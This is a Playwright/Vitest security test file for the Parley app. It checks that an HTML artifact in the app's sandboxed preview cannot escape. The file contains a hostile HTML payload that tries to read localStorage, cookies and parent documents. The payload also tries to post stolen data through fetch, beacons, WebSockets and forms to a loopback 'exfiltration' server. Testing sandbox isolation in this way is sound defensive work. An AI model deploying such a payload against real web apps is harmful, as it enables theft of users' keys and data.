import { createServer, type IncomingMessage, type Server } from 'node:http';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Frame, FrameLocator, Page } from 'playwright-core';
import { textStream, type OpenAiServer } from '../support/openai-server/index.mjs';
import { seedConnection } from '../support/seed-connection.mjs';
import { composer, sendFromHome } from './connected-app';
import { APP_DIST, goOffline, hostApp, serviceWorkerInControl, type AppHost } from './offline-app';
import { modelServerPerFile, pagePerTest } from './page-per-test';
import { axeViolations, VIEWPORTS } from './screen-checks';

// Issue 36, slice A: an HTML block in a reply previews in Parley's sandbox (sandbox.html, an opaque
// origin by its own CSP, docs/sandbox.md). A hostile artifact tries every way out it has; a
// loopback "exfiltration" server records whatever reaches it: nothing does, no key is readable,
// the app's address stays, no window opens, and the app and the artifact both keep working.
// Then offline after one online visit: the preview still renders (the service worker keeps the
// sandbox document, whose program is inline).

const appUrl = inject('appUrl');
/** A key as Settings stores it, and one more in the app's localStorage: the artifact must find neither. */
const KEY = 'sk-parley-e2e-SECRET-7d1f';

let server: OpenAiServer;
let page: Page;
modelServerPerFile({ models: ['test-model'] }, (started) => (server = started));

interface Exfil {
  url: string;
  port: number;
  requests: string[];
  close(): Promise<void>;
}

/** A loopback server that records every request (and WebSocket upgrade) that reaches it. */
async function startExfilServer(): Promise<Exfil> {
  const requests: string[] = [];
  const record = (req: IncomingMessage) => requests.push(`${req.method} ${req.url}`);
  const http: Server = createServer((req, res) => {
    record(req);
    res.writeHead(200, { 'Content-Type': 'text/plain', 'Access-Control-Allow-Origin': '*' }).end('got it');
  });
  http.on('upgrade', (req, socket) => {
    record(req);
    socket.destroy();
  });
  await new Promise<void>((resolve) => http.listen(0, '127.0.0.1', resolve));
  const { port } = http.address() as { port: number };
  return {
    url: `http://127.0.0.1:${port}`,
    port,
    requests,
    close: () => {
      http.closeAllConnections();
      return new Promise<void>((resolve) => http.close(() => resolve()));
    },
  };
}

let exfil: Exfil;
beforeAll(async () => {
  exfil = await startExfilServer();
});
afterAll(async () => {
  await exfil.close();
});

/** The artifact: every escape the issue lists, each tried and its outcome written on the page and posted out. */
function hostileArtifact(exfilUrl: string, port: number): string {
  return `<!doctype html>
<html>
<body>
<h1>Hostile artifact rendered</h1>
<img src="${exfilUrl}/img-tag" alt="">
<pre id="log"></pre>
<script>
const found = [];
const attempt = (name, run) => {
  try { found.push(name + ': ' + String(run())); } catch (error) { found.push(name + ' refused: ' + error.name); }
};
attempt('localStorage', () => JSON.stringify(Object.entries(localStorage)));
attempt('sessionStorage', () => JSON.stringify(Object.entries(sessionStorage)));
attempt('indexedDB', () => {
  const open = indexedDB.open('parley');
  open.onsuccess = () => found.push('indexedDB opened: ' + [...open.result.objectStoreNames].join());
  return 'asked';
});
attempt('cookie', () => document.cookie);
attempt('parent.document', () => parent.document.body.innerHTML);
attempt('parent.localStorage', () => JSON.stringify(Object.entries(parent.localStorage)));
attempt('top.document', () => top.document.body.innerHTML);
attempt('top.localStorage', () => JSON.stringify(Object.entries(top.localStorage)));
attempt('top.location', () => { top.location = '${exfilUrl}/top'; return 'set'; });
attempt('parent.location', () => { parent.location = '${exfilUrl}/parent'; return 'set'; });
attempt('window.open', () => window.open('${exfilUrl}/popup'));
attempt('fetch', () => { fetch('${exfilUrl}/fetch', { method: 'POST', body: found.join() }).catch(() => found.push('fetch failed')); return 'sent'; });
attempt('xhr', () => { const x = new XMLHttpRequest(); x.open('GET', '${exfilUrl}/xhr'); x.send(); return 'sent'; });
attempt('sendBeacon', () => navigator.sendBeacon('${exfilUrl}/beacon', 'x'));
attempt('img', () => { const image = new Image(); image.src = '${exfilUrl}/img'; document.body.append(image); return 'added'; });
attempt('iframe', () => { const frame = document.createElement('iframe'); frame.src = '${exfilUrl}/frame'; document.body.append(frame); return 'added'; });
attempt('WebSocket', () => new WebSocket('ws://127.0.0.1:${port}/ws').readyState);
attempt('form', () => {
  const form = document.createElement('form');
  form.method = 'post';
  form.action = '${exfilUrl}/form';
  form.target = '_top';
  document.body.append(form);
  form.submit();
  return 'submitted';
});
attempt('link to a new window', () => { const a = document.createElement('a'); a.href = '${exfilUrl}/link'; a.target = '_blank'; document.body.append(a); a.click(); return 'clicked'; });
attempt('forged report', () => { parent.postMessage({ type: 'height', height: 1e12 }, '*'); return 'posted'; });
setTimeout(() => {
  document.getElementById('log').textContent = found.join('\\n') + '\\nDONE';
  console.log('artifact found: ' + found.join(' | '));
  parent.postMessage({ type: 'error', message: found.join(' | ').slice(0, 900), line: 1 }, '*');
  throw new Error('thrown on purpose after the attempts');
});
</script>
</body>
</html>`;
}

const reply = () => page.getByRole('article', { name: 'Assistant' }).last();
const previewButton = () => reply().getByRole('button', { name: 'Preview HTML' });
/** The preview's frame (Parley's sandbox document) and, inside it, the artifact's own frame. */
const sandboxFrame = (): FrameLocator => reply().frameLocator('iframe[title="Preview of the HTML block"]');
const artifact = (): FrameLocator => sandboxFrame().frameLocator('iframe');

/** Seeds the connection with a key and a second key in localStorage, as a user's browser holds them. */
async function openWithKey() {
  await page.goto(new URL('assets/seed.txt', appUrl).href);
  await page.evaluate(seedConnection, {
    baseUrl: server.url,
    connections: [{ id: 'test', name: 'Test server', kind: 'custom', baseUrl: server.url, apiKey: KEY, apiKeyUrl: server.url }],
    model: 'test/test-model',
  });
  await page.evaluate((key) => localStorage.setItem('parley-e2e-key', key), KEY);
  await page.goto(appUrl);
  await composer(page).waitFor();
}

/** Sends from the message box: Enter on a keyboard, the Send button by touch (Return adds a line on a phone). */
async function send(text: string, touch: boolean) {
  await composer(page).fill(text);
  if (touch) await page.getByRole('button', { name: 'Send message' }).tap();
  else await composer(page).press('Enter');
}

/**
 * A reply that is mostly one page opens it in the artifact panel, over the whole screen on a phone
 * (modal: the thread behind waits). This journey is about the thread's own preview: close it.
 */
async function closePanelOnPhone(touch: boolean) {
  if (!touch) return;
  const panel = page.getByRole('dialog', { name: 'Page' });
  await panel.getByRole('button', { name: 'Close the artifact' }).tap();
  await expect.poll(() => panel.count()).toBe(0);
}

const JOURNEYS = [
  { name: 'desktop, light, by keyboard', viewport: VIEWPORTS.desktop, colorScheme: 'light' as const, touch: false },
  { name: '390×844 touch phone, dark', viewport: VIEWPORTS.phone, colorScheme: 'dark' as const, touch: true },
];

for (const journey of JOURNEYS) {
  describe(`a hostile HTML artifact, ${journey.name}`, () => {
    const consoleLines: string[] = [];
    const popups: string[] = [];
    const checks = pagePerTest({
      viewport: journey.viewport,
      colorScheme: journey.colorScheme,
      hasTouch: journey.touch,
      isMobile: journey.touch,
      // Checked below: the artifact throws on purpose, and its frames' errors may be told as the page's.
      checkPageErrors: false,
      async onOpen(opened) {
        page = opened.page;
        consoleLines.length = 0;
        popups.length = 0;
        page.on('console', (message) => consoleLines.push(message.text()));
        opened.browser.context.on('page', (popup) => popups.push(popup.url()));
        await openWithKey();
      },
    });

    it('gets nothing out, reads no key, moves and opens nothing; the artifact renders and the app keeps working', async () => {
      const html = hostileArtifact(exfil.url, exfil.port);
      exfil.requests.length = 0;
      server.setScript(textStream(`Here is the page:\n\n\`\`\`html\n${html}\n\`\`\`\n\nEnjoy.`, { chunkSize: 40, delayMs: 2 }));
      await send('Make me a page', journey.touch);
      await page.waitForURL(/\/chat\/[^/]+$/);
      const chatUrl = page.url();
      await previewButton().waitFor();
      await closePanelOnPhone(journey.touch);
      expect(await previewButton().getAttribute('aria-pressed')).toBe('false');
      if (journey.touch) await previewButton().tap();
      else {
        await previewButton().focus();
        await page.keyboard.press('Enter');
      }
      expect(await previewButton().getAttribute('aria-pressed')).toBe('true');
      // Focus stays on the toggle as the view changes.
      if (!journey.touch) expect(await page.evaluate(() => document.activeElement?.outerHTML)).toContain('aria-label="Preview HTML"');

      // The artifact renders and ran every attempt.
      await artifact().getByRole('heading', { name: 'Hostile artifact rendered' }).waitFor();
      await artifact().getByText('DONE').waitFor();
      const log = (await artifact().locator('#log').textContent()) ?? '';
      for (const name of ['localStorage', 'indexedDB', 'cookie', 'parent.document', 'top.document', 'top.location', 'window.open', 'fetch', 'sendBeacon', 'WebSocket', 'form']) {
        expect(log).toContain(name);
      }
      expect(log).toContain('localStorage refused: SecurityError');
      expect(log).toContain('parent.document refused: SecurityError');
      expect(log).toContain('top.document refused: SecurityError');

      // Its errors show under the frame with the line (what it posted, or its own throw).
      await reply().getByRole('alert').filter({ hasText: /Error in the artifact, line \d+/ }).waitFor();
      // The frame's height is bounded whatever the artifact claims.
      const frameHeight = await reply().locator('iframe[title="Preview of the HTML block"]').evaluate((frame) => frame.getBoundingClientRect().height);
      expect(frameHeight).toBeGreaterThan(0);
      expect(frameHeight).toBeLessThanOrEqual(640);

      // The app keeps working: another message gets its reply, with an artifact that navigates its
      // own frame out (the sandbox document's frame-src refuses it: a console line says so).
      const framingRefusals = () => consoleLines.filter((line) => line.startsWith(`Framing '${exfil.url}/'`) && line.includes("frame-src 'none'")).length;
      const leaving = `<p>Leaving</p><script>location.href = '${exfil.url}/self-navigation';</script>`;
      server.setScript(textStream(`Still here.\n\n\`\`\`html\n${leaving}\n\`\`\`\n`, { chunkSize: 16 }));
      await send('Are you there?', journey.touch);
      await reply().getByText('Still here.').waitFor();
      await previewButton().waitFor();
      await closePanelOnPhone(journey.touch);
      const refusedBefore = framingRefusals();
      expect(refusedBefore).toBeGreaterThan(0);
      if (journey.touch) await previewButton().tap();
      else await previewButton().click();
      // Chromium names only the origin it refused to frame: one refusal more than the first artifact's <iframe> caused.
      await expect.poll(() => framingRefusals()).toBeGreaterThan(refusedBefore);

      // Nothing reached the exfiltration server; the address is the same; no window opened.
      expect(exfil.requests).toEqual([]);
      expect(page.url()).toBe(chatUrl);
      expect(popups).toEqual([]);

      // The key is nowhere the artifact could put it: its log, its console, the page, the reports.
      expect(consoleLines.some((line) => line.startsWith('artifact found: '))).toBe(true);
      expect(consoleLines.filter((line) => line.includes(KEY))).toEqual([]);
      expect(log).not.toContain(KEY);
      expect(await page.locator('body').innerText()).not.toContain(KEY);
      expect(checks.pageErrors.filter((error) => !error.includes('thrown on purpose'))).toEqual([]);

      // axe on the message with the preview.
      const previewed = page.getByRole('article', { name: 'Assistant' }).first();
      expect(await axeViolations(page, previewed)).toEqual([]);
    });
  });
}

describe('a preview offline, after one online visit', () => {
  let host: AppHost | undefined;
  pagePerTest({
    viewport: VIEWPORTS.desktop,
    onOpen(opened) {
      page = opened.page;
    },
  });
  afterAll(async () => {
    await host?.stop();
  });

  it('renders an HTML artifact with the app and its server offline', async () => {
    host = await hostApp(APP_DIST, '/');
    await page.goto(new URL('assets/seed.txt', host.url).href);
    await page.evaluate(seedConnection, { baseUrl: server.url });
    await page.goto(host.url);
    await composer(page).waitFor();
    server.setScript(textStream('A drawing:\n\n```html\n<p id="hello">Hello offline</p>\n<script>document.getElementById("hello").textContent += " and running";</script>\n```\n', { chunkSize: 16 }));
    await sendFromHome(page, 'Draw something');
    await reply().getByRole('button', { name: 'Preview HTML' }).waitFor();
    await serviceWorkerInControl(page);
    // The warm-up keeps the sandbox document (and the preview's chunk) while the page is idle.
    const kept = () =>
      page.evaluate(async () => {
        const cache = await caches.open('parley-files');
        const names = (await cache.keys()).map((request) => new URL(request.url).pathname);
        return { sandbox: names.includes('/sandbox.html'), frame: names.some((name) => /\/artifact-frame-[A-Z0-9]{8}\.js$/.test(name)) };
      });
    await expect.poll(kept, { timeout: 30_000 }).toEqual({ sandbox: true, frame: true });

    await goOffline(page, host);
    await page.reload();
    await previewButton().click();
    await artifact().getByText('Hello offline and running').waitFor();
  });
});
